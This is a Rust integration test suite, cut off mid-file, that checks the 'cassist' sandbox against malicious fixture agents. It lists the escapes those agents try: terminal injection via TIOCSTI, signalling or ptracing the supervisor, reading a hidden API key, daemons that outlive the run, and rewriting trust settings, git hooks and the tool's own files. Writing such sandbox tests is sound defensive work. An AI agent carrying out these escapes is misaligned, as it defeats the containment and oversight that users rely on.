//! The attack suite of issue 12: one malicious fixture agent of
//! `fixtures/agents/attacks/` per attack (each script's header says what it
//! tries and what must stop it), run by the real binary the way an attacker
//! would run it, in both workspace modes where the attack applies.
//!
//! Every test checks that the attack failed where it would have landed (the
//! file outside the workspace is absent or unchanged, the signal did not
//! land: cassist ended normally with its usual exit code and report), that
//! the task ended with a clear reason where the review is what stops it,
//! and that the run stayed consistent: the user's tree (`.git/` included),
//! `cassist.lock`, the store and HOME are exactly what they should be
//! ([`Before`]). Each also checks that the attack really ran (its
//! "finished" line), so that a test cannot pass by attacking nothing.
//!
//! Nothing here writes a block device: the fixtures open them for writing
//! and close them at once. Signals and terminal input are only ever aimed
//! at the test's own cassist (found by the test's folder on its command
//! line), `kill -9 -1` only where it provably reaches nothing outside the
//! sandbox.
//!
//! The suite needs the sandbox: where the kernel lacks it the tests are
//! skipped, saying so, or fail under `CASSIST_REQUIRE_SANDBOX=1`.

use std::collections::{BTreeMap, BTreeSet};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::{Path, PathBuf};
use std::time::Duration;

use cassist_core::lock::{Lock, LockEntry};
use cassist_core::store::Store;

use crate::support::{
    Project, Sandbox, Test, Tree, assert_same_tree, contains_bytes, files_under, processes_with, sandbox_or_skip,
    snapshot, strings, unique_marker, wait_until, write,
};
use crate::support::{in_both_modes, sandboxed};

type Env<'a> = &'a [(&'a str, &'a str)];

// ---------------------------------------------------------------------------
// Support

/// `overlay` or `copy`: the workspace mode `env` asks for.
fn mode(env: Env) -> &'static str {
    if crate::support::copy_mode(env) { "copy" } else { "overlay" }
}

/// The line cassist prints when `task` starts in the workspace mode of `env`.
fn workspace_line(task: &str, env: Env) -> String {
    format!("{task}: workspace: {}", mode(env))
}

/// Adds the custom agent `name` running `fixtures/agents/attacks/<script>`.
fn attacker(test: Test, name: &str, script: &str, args: &[&str], pass_env: &[&str]) -> Test {
    test.agent(name, &format!("attacks/{script}"), args, pass_env)
}

/// `cassist.lock` of a project that recorded a task `earlier` before.
fn earlier_lock() -> String {
    let entry = LockEntry {
        before: "1".repeat(64),
        after: "2".repeat(64),
        outputs: None,
        output_files: Default::default(),
        patch: "3".repeat(64),
        agent: "good".into(),
        agent_version: None,
        date: "2026-11-30T12:00:00Z".into(),
        ..LockEntry::default()
    };
    Lock { tasks: BTreeMap::from([("earlier".to_owned(), entry)]) }.render()
}

/// A task file holding one code task `t` (workspace-write: the project's
/// trust; one iteration) with `goal`, done by `agent`; `note` ends the
/// comment that says so in the file.
fn one_task(goal: &str, agent: &str, note: &str) -> String {
    format!(
        "// A code task (workspace-write){note}.\ntask \"t\" {{\n    goal {goal:?}\n    agent {agent:?}\n    max-iterations 1\n}}\n"
    )
}

/// Every log cassist recorded for `task` (transcripts, acceptance, test,
/// setup and build logs), each cut to its last 8 KB, for failure messages
/// and for the lines the fixtures print.
fn logs(p: &Project, task: &str) -> String {
    let mut files: Vec<PathBuf> = std::fs::read_dir(p.records(task))
        .map(|d| d.flatten().map(|e| e.path()).filter(|f| f.extension().is_some_and(|x| x == "log")).collect())
        .unwrap_or_default();
    files.sort();
    let mut out = String::new();
    for f in files {
        let bytes = std::fs::read(&f).unwrap_or_default();
        let tail = &bytes[bytes.len().saturating_sub(8192)..];
        out.push_str(&format!("--- {}\n{}\n", f.file_name().unwrap().to_string_lossy(), String::from_utf8_lossy(tail)));
    }
    out
}

/// The lines of `text` that say an attack got through (the fixtures print
/// `DONE` or `PUSHED` for those).
fn got_through(text: &str) -> Vec<&str> {
    text.lines().filter(|l| l.contains(": DONE") || l.contains(": PUSHED")).collect()
}

/// The review of `task`'s attempt `attempt` names `path`.
fn review_names(p: &Project, task: &str, attempt: u32, path: &str) -> bool {
    p.records(task).join(format!("review-{attempt}.json")).exists()
        && p.record(task, &format!("review-{attempt}.json")).contains(path)
}

/// What a run may change only by integrating and recording a task: the
/// user's tree (`.git/` included), `cassist.lock`, the store's entries and
/// HOME (but `~/.cache`, the state folder agents may write, which holds the
/// test's `out` folder), taken before the run.
struct Before {
    tree: Tree,
    lock: Lock,
    entries: BTreeSet<String>,
    home: Tree,
}

impl Before {
    fn take(p: &Project) -> Before {
        Before {
            tree: p.tree(),
            lock: Lock::load(p.path()).expect("cassist.lock reads"),
            entries: Store::open(p.path()).list().into_iter().map(|(e, _, _)| e.before).collect(),
            home: snapshot(p.home(), &[".cache"]),
        }
    }

    /// The run changed nothing: the tree, the lock, the store and HOME
    /// are as they were.
    #[track_caller]
    fn assert_untouched(&self, p: &Project, log: &str) {
        self.assert_recorded(p, &[], log);
    }

    /// The run integrated and recorded exactly the tasks of `recorded`,
    /// each with exactly the files given (the test checks their content),
    /// and changed nothing else: no other file of the tree, no other line
    /// of the lock, no other entry of the store, nothing in HOME, and no
    /// file planted by an attack (`pwned*`, `smuggled*`) anywhere in the
    /// project, `.cassist/` included.
    #[track_caller]
    fn assert_recorded(&self, p: &Project, recorded: &[(&str, &[&str])], log: &str) {
        // The tree, less the files the recorded tasks changed (and the
        // folders those brought) and the lock.
        let mut before = self.tree.clone();
        let mut after = p.tree();
        let mut skip: Vec<PathBuf> = vec![PathBuf::from("cassist.lock")];
        for (_, files) in recorded {
            for f in *files {
                let mut path = Some(Path::new(*f));
                while let Some(rel) = path.filter(|r| !r.as_os_str().is_empty()) {
                    if rel == Path::new(*f) || !self.tree.contains_key(rel) {
                        skip.push(rel.to_path_buf());
                    }
                    path = rel.parent();
                }
            }
        }
        for rel in &skip {
            before.remove(rel);
            after.remove(rel);
        }
        assert_same_tree(&after, &before, &format!("the user's tree is not what the run should have left\n{log}"));

        // The lock: the recorded tasks added, every other line as it was.
        let lock = Lock::load(p.path()).expect("cassist.lock reads after the run");
        let mut want: BTreeSet<&str> = self.lock.tasks.keys().map(String::as_str).collect();
        want.extend(recorded.iter().map(|(t, _)| *t));
        let got: BTreeSet<&str> = lock.tasks.keys().map(String::as_str).collect();
        assert_eq!(got, want, "the tasks of cassist.lock\n{log}");
        for (name, entry) in &self.lock.tasks {
            if !recorded.iter().any(|(t, _)| t == name) {
                assert_eq!(lock.tasks.get(name), Some(entry), "the lock's line of {name} changed\n{log}");
            }
        }

        // The store: one new entry per recorded task, holding its files.
        let mut new: Vec<(String, Vec<String>)> = Store::open(p.path())
            .list()
            .into_iter()
            .filter(|(e, _, _)| !self.entries.contains(&e.before))
            .map(|(e, _, _)| (e.task, e.changes.into_iter().map(|c| c.path).collect()))
            .collect();
        new.sort();
        let mut want: Vec<(String, Vec<String>)> = recorded
            .iter()
            .map(|(t, files)| {
                let mut files: Vec<String> = files.iter().map(|f| (*f).to_owned()).collect();
                files.sort();
                ((*t).to_owned(), files)
            })
            .collect();
        want.sort();
        assert_eq!(new, want, "the store's new entries (task, files)\n{log}");

        assert_same_tree(&snapshot(p.home(), &[".cache"]), &self.home, &format!("HOME changed\n{log}"));
        let planted: Vec<PathBuf> = walkdir::WalkDir::new(p.path())
            .into_iter()
            .flatten()
            .filter(|e| {
                let name = e.file_name().to_string_lossy();
                name.contains("pwned") || name.contains("smuggled")
            })
            .map(|e| e.path().to_path_buf())
            .collect();
        assert!(planted.is_empty(), "files planted by an attack: {planted:?}\n{log}");
    }
}

// ---------------------------------------------------------------------------
// 1. The agent's code run by acceptance, the project test and build

const ESCAPE_CONFIG: &str = r#"trust "workspace-write"
test "python3 src/app.py test"
build "python3 src/app.py build home links"
"#;

const ESCAPE_TASK: &str = r#"// A code task (workspace-write: the project's trust). Its agent writes
// src/app.py, which the acceptance command, the project's test and its build
// then run; the agent and each of them try to get out.
task "escape" {
    goal "Write src/app.py."
    agent "escaper"
    max-iterations 1
    scope {
        path "src/**"
    }
    acceptance {
        run "python3 src/app.py acceptance"
    }
}
"#;

/// A project whose agent `escaper` writes src/app.py (`escape.py`), trying
/// `groups` itself, with `config` and `task`; git, a lock and a HOME with a
/// `.bashrc`.
fn escape_project(config: &str, task: &str, groups: &[&str]) -> Project {
    let mut args = vec!["agent"];
    args.extend_from_slice(groups);
    let test = Test::new().outside_tmp().config(config);
    let p = attacker(test, "escaper", "escape.py", &args, &["ATTACK_PROJECT", "ATTACK_MARKER"])
        .tasks(task)
        .file("README.md", "a project\n")
        .file("src/a.txt", "a\n")
        .file("cassist.lock", earlier_lock())
        .git()
        .build();
    write(&p.home().join(".bashrc"), "# the user's own .bashrc\n");
    p
}

/// Item 1: the agent's code, run by acceptance, the project's test and
/// build (and the agent itself), writes HOME, the real project (by path,
/// behind an unmounted overlay, through the overlay's layers, through
/// /proc/PID/cwd, through links) and cassist's own files: all of it fails,
/// the task passes with the agent's one file, and nothing else changed.
fn code_run_by_acceptance_test_and_build_stays_confined(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = escape_project(ESCAPE_CONFIG, ESCAPE_TASK, &["home", "mounts", "links", "proc"]);
    let before = Before::take(&p);
    let done = p
        .run(&[])
        .envs(env)
        .env("ATTACK_PROJECT", p.path())
        .env("ATTACK_MARKER", p.out_str())
        .stderr_has(&workspace_line("escape", env))
        .exec();
    let log = logs(&p, "escape");
    let t = done.task("escape");
    assert_eq!(t["state"], "passed", "{t}\n{log}");
    assert_eq!(strings(&t["changed_files"]), ["src/app.py"], "{log}");
    for phase in ["agent", "acceptance", "test", "build"] {
        assert!(log.contains(&format!("escape {phase}: finished")), "the {phase} did not run its attacks:\n{log}");
    }
    assert_eq!(std::fs::read_to_string(p.home().join(".bashrc")).unwrap(), "# the user's own .bashrc\n", "{log}");
    before.assert_recorded(&p, &[("escape", &["src/app.py"])], &log);
}

in_both_modes!(code_run_by_acceptance_test_and_build_stays_confined: code_run_by_acceptance_test_and_build_cannot_get_out, code_run_by_acceptance_test_and_build_cannot_get_out_in_copy_mode);

/// Items 1 and 6 together: the build command runs the agent's code in the
/// user's own tree, after the review. It may write the project (its build
/// outputs), but not cassist's own files: no raised trust in cassist.kdl,
/// no new task file, no git hook, no .git/config, nothing in the store.
fn build_cannot_rewrite_cassists_own_files(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let config = "trust \"workspace-write\"\ntest #false\nbuild \"python3 src/app.py build owned\"\n";
    let task = ESCAPE_TASK.replace("python3 src/app.py acceptance", "true");
    let p = escape_project(config, &task, &[]);
    let before = Before::take(&p);
    let done =
        p.run(&[]).envs(env).env("ATTACK_PROJECT", p.path()).env("ATTACK_MARKER", p.out_str()).any_status().exec();
    let log = logs(&p, "escape");
    assert!(log.contains("escape build: finished"), "the build did not run its attacks:\n{log}");
    assert_eq!(done.task("escape")["state"], "passed", "{}", done.transcript());
    before.assert_recorded(&p, &[("escape", &["src/app.py"])], &log);
}

in_both_modes!(build_cannot_rewrite_cassists_own_files: the_build_cannot_rewrite_cassists_own_files, the_build_cannot_rewrite_cassists_own_files_in_copy_mode);

/// Item 1, without Landlock (a kernel without it, `CASSIST_LANDLOCK=off`):
/// neither the agent nor acceptance can unmount the overlay (or unmount it
/// from a nested user namespace) and write the real project behind it: no
/// capabilities are left once the mounts are made.
#[test]
fn without_landlock_nothing_unmounts_the_workspace() {
    if !sandbox_or_skip(Sandbox::Overlay) {
        return;
    }
    let config = "trust \"workspace-write\"\ntest #false\n";
    let task = ESCAPE_TASK.replace("python3 src/app.py acceptance", "python3 src/app.py acceptance mounts");
    let p = escape_project(config, &task, &["mounts"]);
    let before = Before::take(&p);
    let done = p
        .run(&[])
        .env("CASSIST_LANDLOCK", "off")
        .env("ATTACK_PROJECT", p.path())
        .env("ATTACK_MARKER", p.out_str())
        .exec();
    let log = logs(&p, "escape");
    let t = done.task("escape");
    assert_eq!(t["state"], "passed", "{t}\n{log}");
    for phase in ["agent", "acceptance"] {
        assert!(log.contains(&format!("escape {phase}: finished")), "the {phase} did not run its attacks:\n{log}");
    }
    before.assert_recorded(&p, &[("escape", &["src/app.py"])], &log);
}

// ---------------------------------------------------------------------------
// 2. Terminal injection

const TTY_TASKS: &str = r#"// Run from a shell on a terminal, one task at a time. "peek" is read-only
// (explore); "poke" is a code task (workspace-write) whose acceptance runs
// the src/tty.py its agent wrote.
task "peek" {
    goal "Look around."
    kind "explore"
    agent "tty-ro"
}

task "poke" {
    goal "Write src/tty.py."
    agent "tty-rw"
    max-iterations 1
    scope {
        path "src/**"
    }
    acceptance {
        run "python3 src/tty.py acceptance"
    }
}
"#;

/// Item 2: cassist runs from the user's shell on a terminal; a read-only
/// agent, a code task's agent and its acceptance push a command into the
/// terminal's input (TIOCSTI through /dev/tty, inherited fds, a tty node of
/// their own, /proc/PID/fd of cassist). The shell reads nothing after
/// cassist ends.
fn nothing_types_into_the_users_terminal(env: Env) {
    if !sandboxed(env) {
        return;
    }
    if std::fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").is_ok_and(|v| v.trim() == "0") {
        eprintln!("note: TIOCSTI is disabled on this kernel (legacy_tiocsti=0): the attack cannot work here");
    }
    let pass = ["ATTACK_TTY_COMMAND", "ATTACK_MARKER"];
    let test = attacker(Test::trusted(), "tty-ro", "tiocsti.py", &["agent"], &pass);
    let p = attacker(test, "tty-rw", "tiocsti.py", &["agent", "write"], &pass)
        .tasks(TTY_TASKS)
        .file("src/a.txt", "a\n")
        .build();
    let typed = p.out().join("typed-by-a-task");
    let before = Before::take(&p);
    let done = p
        .run(&["-j", "1"])
        .envs(env)
        .env("ATTACK_TTY_COMMAND", format!("touch {}", typed.display()))
        .env("ATTACK_MARKER", p.out_str())
        .on_tty_in_shell();
    let log = format!("{}{}", logs(&p, "peek"), logs(&p, "poke"));
    assert!(
        !done.stdout.contains("[shell runs:") && !typed.exists(),
        "a task typed into the user's terminal:\n{}\n{log}",
        done.stdout
    );
    assert_eq!(got_through(&log), Vec::<&str>::new(), "{log}");
    assert_eq!(done.states(), BTreeMap::from([("peek".into(), "passed".into()), ("poke".into(), "passed".into())]));
    for what in ["tiocsti agent: finished", "tiocsti acceptance: finished"] {
        assert!(log.contains(what), "no {what:?}: the attack did not run\n{log}");
    }
    before.assert_recorded(&p, &[("peek", &[]), ("poke", &["src/tty.py"])], &log);
}

in_both_modes!(nothing_types_into_the_users_terminal: no_task_types_into_the_users_terminal, no_task_types_into_the_users_terminal_in_copy_mode);

// ---------------------------------------------------------------------------
// 3. Tasks side by side

/// Item 3: while a code task (the victim) runs, a read-only explore task
/// and a workspace-write code task of the same run (`-j 3`) look for its
/// workspace in the shared temp folders and beside their own, plant a file
/// in every folder of it, forge its result file and read its prompt. The
/// victim passes with its own change only; in overlay mode (where other
/// tasks' files are not even readable) its prompt stayed unread.
fn tasks_cannot_reach_each_other(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let id = unique_marker("victim").replace("cassist-test-", "");
    let victim = id.to_lowercase();
    let token = format!("PROMPT-TOKEN-{id}");
    let tasks = format!(
        r#"// Three tasks side by side (the test runs them with -j 3): "{victim}"
// (a code task, workspace-write) writes src/victim.txt once the other two
// are done; "peek" (explore: read-only) and "prowl" (a code task,
// workspace-write) attack its workspace meanwhile.
task "{victim}" {{
    goal "Write src/victim.txt. {token}"
    agent "victim"
    max-iterations 1
}}

task "peek" {{
    goal "Look around."
    kind "explore"
    agent "neighbour"
}}

task "prowl" {{
    goal "Look around."
    agent "neighbour"
    max-iterations 1
}}
"#
    );
    let test = attacker(Test::trusted(), "victim", "victim.sh", &[], &["ATTACK_GO"]);
    let p = attacker(test, "neighbour", "neighbour.py", &[], &["ATTACK_VICTIM", "ATTACK_PROMPT_TOKEN"])
        .tasks(&tasks)
        .file("src/a.txt", "a\n")
        .build();
    let go = p.out().join("go");
    let before = Before::take(&p);
    let running = p
        .run(&["-j", "3"])
        .envs(env)
        .env("ATTACK_GO", &go)
        .env("ATTACK_VICTIM", &victim)
        .env("ATTACK_PROMPT_TOKEN", &token)
        .any_status()
        .spawn();
    // The victim writes its change once both attackers are done.
    let finished = |task: &str| {
        let Ok(runs) = std::fs::read_dir(p.path().join(".cassist/runs")) else { return false };
        runs.flatten().any(|r| {
            std::fs::read_to_string(r.path().join(task).join("transcript-1.log"))
                .is_ok_and(|t| t.contains("neighbour: done"))
        })
    };
    wait_until(Duration::from_secs(120), "both attackers done", || finished("peek") && finished("prowl"));
    write(&go, "go\n");
    let done = running.finish_within(Duration::from_secs(300));
    let log = format!("{}{}{}", logs(&p, &victim), logs(&p, "peek"), logs(&p, "prowl"));
    let planted: Vec<&str> =
        got_through(&log).into_iter().filter(|l| l.contains(": plant ") || l.contains(": forge ")).collect();
    assert_eq!(planted, Vec::<&str>::new(), "a task wrote into another task's workspace\n{log}");
    let states = done.states();
    assert!(states.values().all(|s| s == "passed"), "{states:?}\n{}\n{log}", done.transcript());
    done.assert_code(0);
    let t = done.task(&victim);
    assert_eq!(strings(&t["changed_files"]), ["src/victim.txt"], "{t}\n{log}");
    assert!(log.contains("victim: wrote src/victim.txt"), "the victim did not run:\n{log}");
    if mode(env) == "overlay" {
        assert!(!log.contains("holds the token"), "a task read another task's prompt\n{log}");
    }
    before.assert_recorded(&p, &[(&victim, &["src/victim.txt"]), ("peek", &[]), ("prowl", &[])], &log);
}

in_both_modes!(tasks_cannot_reach_each_other: a_task_cannot_reach_another_tasks_workspace, a_task_cannot_reach_another_tasks_workspace_in_copy_mode);

// ---------------------------------------------------------------------------
// 4. Devices and the shared temp folders

const DEVICE_TASKS: &str = r#"// One task at a time: "dev-peek" is read-only (explore), "dev-poke" a code
// task (workspace-write).
task "dev-peek" {
    goal "Look around."
    kind "explore"
    agent "dev-ro"
}

task "dev-poke" {
    goal "Write src/devices.txt."
    agent "dev-rw"
    max-iterations 1
    scope {
        path "src/**"
    }
}
"#;

/// The block devices of this machine's /dev.
fn host_block_devices() -> Vec<PathBuf> {
    std::fs::read_dir("/dev")
        .map(|d| d.flatten().filter(|e| e.file_type().is_ok_and(|t| t.is_block_device())).map(|e| e.path()).collect())
        .unwrap_or_default()
}

/// Item 4 (and 3): a read-only and a workspace-write agent open every block
/// device for writing (never writing one), make a block device node of
/// their own, create a file in /dev and leave a file in /tmp, /var/tmp and
/// /dev/shm. None of it works, and nothing is left on the machine; /dev/null
/// is still writable.
fn devices_and_shared_temp_folders_are_out_of_reach(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let marker = unique_marker("dev");
    let devices: Vec<String> = host_block_devices().iter().map(|d| d.display().to_string()).collect();
    let pass = ["ATTACK_MARKER", "ATTACK_BLOCK_DEVICES"];
    let test = attacker(Test::trusted(), "dev-ro", "devices.py", &["read-only"], &pass);
    let p =
        attacker(test, "dev-rw", "devices.py", &["write"], &pass).tasks(DEVICE_TASKS).file("src/a.txt", "a\n").build();
    let before = Before::take(&p);
    let done = p
        .run(&["-j", "1"])
        .envs(env)
        .env("ATTACK_MARKER", &marker)
        .env("ATTACK_BLOCK_DEVICES", devices.join(":"))
        .any_status()
        .exec();
    // Whatever happened, nothing stays behind on the machine.
    let left: Vec<PathBuf> = ["/dev", "/tmp", "/var/tmp", "/dev/shm"]
        .iter()
        .map(|d| Path::new(d).join(&marker))
        .filter(|f| f.exists())
        .inspect(|f| {
            let _ = std::fs::remove_file(f);
        })
        .collect();
    let log = format!("{}{}", logs(&p, "dev-peek"), logs(&p, "dev-poke"));
    assert_eq!(left, Vec::<PathBuf>::new(), "files a task left on the machine\n{log}");
    assert_eq!(
        got_through(&log).into_iter().filter(|l| l.contains("for writing")).collect::<Vec<_>>(),
        Vec::<&str>::new(),
        "a block device opened for writing\n{log}"
    );
    // Its own /tmp, /var/tmp and /dev/shm it may write: those are private
    // (the files left on the machine are checked above).
    let devices: Vec<&str> = got_through(&log).into_iter().filter(|l| !l.contains(": create /")).collect();
    assert_eq!(devices, Vec::<&str>::new(), "{log}");
    assert_eq!(log.matches("devices: control: /dev/null writable").count(), 2, "/dev/null must stay writable:\n{log}");
    done.assert_code(0);
    assert_eq!(done.states().values().filter(|s| *s == "passed").count(), 2, "{}", done.transcript());
    before.assert_recorded(&p, &[("dev-peek", &[]), ("dev-poke", &["src/devices.txt"])], &log);
}

in_both_modes!(devices_and_shared_temp_folders_are_out_of_reach: devices_and_the_machines_temp_folders_are_out_of_reach, devices_and_the_machines_temp_folders_are_out_of_reach_in_copy_mode);

// ---------------------------------------------------------------------------
// 5. Signals, ptrace and processes that outlive their command

const SIGNAL_TASKS: &str = r#"// One task at a time: "sig-peek" is read-only (explore), "sig-poke" a code
// task (workspace-write).
task "sig-peek" {
    goal "Look around."
    kind "explore"
    agent "sig-ro"
}

task "sig-poke" {
    goal "Write src/signals.txt."
    agent "sig-rw"
    max-iterations 1
    scope {
        path "src/**"
    }
}
"#;

/// Item 5: a read-only and a workspace-write agent go for cassist: its
/// environment, ptrace, SIGTERM, SIGINT, SIGKILL, its process group, and
/// `kill -9 -1`; and they connect to an abstract unix socket outside the
/// sandbox. cassist ends normally with its report, both tasks passed,
/// cassist's hidden variable was not read and the socket got no connection.
fn agents_cannot_touch_cassist(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let hidden = "hidden-value-0c8f2a61b7";
    let reversed: String = hidden.chars().rev().collect();
    let pass = ["ATTACK_MARKER", "ATTACK_TEST_PID", "ATTACK_HIDDEN_VAR", "ATTACK_ABSTRACT"];
    let test = attacker(Test::trusted(), "sig-ro", "signals.py", &["read-only"], &pass);
    let p =
        attacker(test, "sig-rw", "signals.py", &["write"], &pass).tasks(SIGNAL_TASKS).file("src/a.txt", "a\n").build();
    let abstract_name = unique_marker("abstract");
    let listener = {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
        std::os::unix::net::UnixListener::bind_addr(&addr).expect("an abstract socket")
    };
    listener.set_nonblocking(true).unwrap();
    let before = Before::take(&p);
    let done = p
        .run(&["-j", "1"])
        .envs(env)
        .env("ATTACK_MARKER", p.out_str())
        .env("ATTACK_ABSTRACT", &abstract_name)
        .env("ATTACK_TEST_PID", std::process::id().to_string())
        .env("ATTACK_HIDDEN_VAR", "CASSIST_HIDDEN_API_KEY")
        .env("CASSIST_HIDDEN_API_KEY", hidden)
        .own_process_group()
        .any_status()
        .spawn()
        .finish_within(Duration::from_secs(300));
    let log = if p.path().join(".cassist/runs").exists() {
        format!("{}{}", logs(&p, "sig-peek"), logs(&p, "sig-poke"))
    } else {
        String::new()
    };
    done.assert_code(0);
    assert_eq!(got_through(&log), Vec::<&str>::new(), "{log}");
    assert_eq!(log.matches("signals: finished").count(), 2, "the attacks did not run:\n{log}");
    let connected = std::iter::from_fn(|| listener.accept().ok()).count();
    assert_eq!(connected, 0, "the abstract socket outside got connections\n{log}");
    assert_eq!(done.states().values().filter(|s| *s == "passed").count(), 2, "{}", done.transcript());
    for name in ["sig-peek", "sig-poke"] {
        assert_eq!(done.task(name)["attempts"], 1, "{}", done.transcript());
    }
    for (path, bytes) in files_under(p.path()) {
        assert!(!contains_bytes(&bytes, reversed.as_bytes()), "cassist's hidden variable is in {}", path.display());
    }
    before.assert_recorded(&p, &[("sig-peek", &[]), ("sig-poke", &["src/signals.txt"])], &log);
}

in_both_modes!(agents_cannot_touch_cassist: agents_cannot_signal_trace_or_read_cassist, agents_cannot_signal_trace_or_read_cassist_in_copy_mode);

/// Item 5: the agent leaves a `setsid` child, a double-forked daemon and a
/// background child deaf to SIGTERM and SIGHUP, which keep rewriting its
/// file after it exited (the acceptance command waits a second for them),
/// and write the real project by path. None outlives the run, and what is
/// integrated is what the review saw.
fn no_process_outlives_its_command(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let marker = unique_marker("daemon");
    let task = r#"// A code task (workspace-write). Its acceptance waits a second, while
// what the agent left behind would tamper with its file.
task "daemon" {
    goal "Write src/daemon.txt."
    agent "daemon"
    max-iterations 1
    scope {
        path "src/daemon.txt"
    }
    acceptance {
        run "sleep 1; grep -qx reviewed src/daemon.txt"
    }
}
"#;
    let p = attacker(Test::trusted(), "daemon", "daemon.py", &[&marker], &["ATTACK_PROJECT"])
        .tasks(task)
        .file("src/a.txt", "a\n")
        .build();
    let before = Before::take(&p);
    let done = p.run(&[]).envs(env).env("ATTACK_PROJECT", p.path()).any_status().exec();
    let left = processes_with(&marker);
    for (pid, _) in &left {
        let _ = nix::sys::signal::kill(nix::unistd::Pid::from_raw(*pid), nix::sys::signal::Signal::SIGKILL);
    }
    let log = logs(&p, "daemon");
    assert_eq!(left, Vec::<(i32, String)>::new(), "processes outlived the run\n{log}");
    assert!(log.contains("daemon: started three"), "the attack did not run:\n{log}");
    done.assert_code(0);
    let t = done.task("daemon");
    assert_eq!(t["state"], "passed", "{t}\n{log}");
    assert_eq!(p.read("src/daemon.txt"), "reviewed\n");
    // A survivor would still be writing: the tree stays as integrated.
    std::thread::sleep(Duration::from_millis(500));
    before.assert_recorded(&p, &[("daemon", &["src/daemon.txt"])], &log);
}

in_both_modes!(no_process_outlives_its_command: no_daemon_outlives_the_agent, no_daemon_outlives_the_agent_in_copy_mode);

// ---------------------------------------------------------------------------
// 6. cassist's own files

const OWN_FILES: [&str; 10] = [
    "cassist.kdl",
    "tasks/t.kdl",
    "tasks/evil.kdl",
    "cassist.lock",
    ".agents/config.toml",
    "prompts/task.md",
    "docs/agent.md",
    ".git/hooks/pre-commit",
    ".git/config",
    ".cassist/store/pwned",
];

const OWN_CONFIG: &str = r#"trust "workspace-write"
test #false
prompt-template "prompts/task.md"
instructions "docs/agent.md"
"#;

const TEMPLATE: &str = "# Goal\n{goal}\n\n# Context\n{context}\n\n# Constraints\n{constraints}\n\n# Acceptance criteria\n{acceptance}\n\n# Reference\n{reference}\n";

/// A git project whose agent `owner` runs `own-files.sh ARGS`, with
/// `tasks` as its task file, a template, instructions and a lock.
fn own_files_project(args: &[&str], tasks: &str) -> Project {
    attacker(Test::new().outside_tmp().config(OWN_CONFIG), "owner", "own-files.sh", args, &[])
        .tasks(tasks)
        .file("prompts/task.md", TEMPLATE)
        .file("docs/agent.md", "Write tests.\n")
        .file("src/a.txt", "a\n")
        .file("cassist.lock", earlier_lock())
        .git()
        .build()
}

/// Item 6: with the default scope (anything), the agent raises the trust in
/// cassist.kdl, gives its own task `sandbox "full"`, adds a task file asking
/// for it, and rewrites the lock, `.agents/config.toml`, the prompt
/// template, the instructions, a git hook, `.git/config` and the store. The
/// task is rejected as a security issue naming every one it changed (in
/// overlay mode the sandbox refuses the `.git/` and `.cassist/` writes
/// outright), and nothing changed.
fn own_files_are_not_the_agents(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = own_files_project(&[], &one_task("Tidy the project.", "owner", " with the default scope: anything"));
    let before = Before::take(&p);
    let done = p.run(&[]).envs(env).status(1).exec();
    let log = logs(&p, "t");
    assert!(log.contains("own-files: done"), "the attack did not run:\n{log}");
    let t = done.task("t");
    assert_eq!(t["state"], "failed", "{t}\n{log}");
    let reason = t["reason"].as_str().unwrap_or_default();
    assert!(reason.contains("security issue"), "{reason}\n{log}");
    for path in OWN_FILES {
        let sandboxed_away = path.starts_with(".git/") || path.starts_with(".cassist/");
        if mode(env) == "overlay" && sandboxed_away {
            assert!(log.contains(&format!("own-files: REFUSED {path}")), "the agent could write {path}:\n{log}");
        } else if log.contains(&format!("own-files: WROTE {path}")) {
            assert!(
                review_names(&p, "t", 1, path),
                "the review does not name {path}:\n{}",
                p.record("t", "review-1.json")
            );
        }
    }
    before.assert_untouched(&p, &log);
}

in_both_modes!(own_files_are_not_the_agents: changes_to_cassists_own_files_are_rejected, changes_to_cassists_own_files_are_rejected_in_copy_mode);

/// The other side of item 6: a task whose scope names cassist.kdl
/// literally may change it; a glob (`tasks/**`) does not name the task file.
#[test]
fn own_files_named_literally_in_the_scope_may_change() {
    let tasks = r#"// Two code tasks (workspace-write), run with --keep-going.
task "literal" {
    goal "Change cassist.kdl."
    agent "owner-kdl"
    max-iterations 1
    scope {
        path "cassist.kdl"
        path "src/**"
    }
}

task "glob" {
    goal "Change the task file."
    agent "owner-tasks"
    max-iterations 1
    scope {
        path "tasks/**"
        path "src/**"
    }
}
"#;
    let test = Test::new().outside_tmp().config(OWN_CONFIG);
    let test = attacker(test, "owner-kdl", "own-files.sh", &["cassist.kdl"], &[]);
    let p = attacker(test, "owner-tasks", "own-files.sh", &["tasks/t.kdl"], &[])
        .tasks(tasks)
        .file("prompts/task.md", TEMPLATE)
        .file("docs/agent.md", "Write tests.\n")
        .file("src/a.txt", "a\n")
        .git()
        .build();
    let done = p.run(&["--keep-going", "-j", "1"]).status(1).exec();
    let log = format!("{}{}", logs(&p, "literal"), logs(&p, "glob"));
    let literal = done.task("literal");
    assert_eq!(literal["state"], "passed", "{literal}\n{log}");
    assert_eq!(strings(&literal["changed_files"]), ["cassist.kdl", "src/own.txt"], "{log}");
    assert!(p.read("cassist.kdl").contains("// raised by the agent"));
    let glob = done.task("glob");
    assert_eq!(glob["state"], "failed", "{glob}\n{log}");
    assert!(glob["reason"].as_str().unwrap_or_default().contains("security issue"), "{glob}");
    assert!(!p.read("tasks/t.kdl").contains("sandbox \"full\""));
}

// ---------------------------------------------------------------------------
// 7, 10. What a change may not hold

/// A project whose agent `special` runs `special.py KINDS` in a task `t`
/// (code, workspace-write, default scope), with src/tool.sh (0755) and
/// README.md.
fn special_project(kinds: &[&str]) -> Project {
    let p = attacker(Test::trusted(), "special", "special.py", kinds, &["ATTACK_PROJECT"])
        .tasks(&one_task("Add the tools.", "special", " with the default scope"))
        .file("README.md", "a project\n")
        .file("src/tool.sh", "#!/bin/sh\necho tool\n")
        .git()
        .build();
    std::fs::set_permissions(p.path().join("src/tool.sh"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap();
    p
}

/// Runs the `special` task of `p`, which must be rejected as a security
/// issue naming each of `paths` the agent made, leaving everything as it
/// was; returns the log.
#[track_caller]
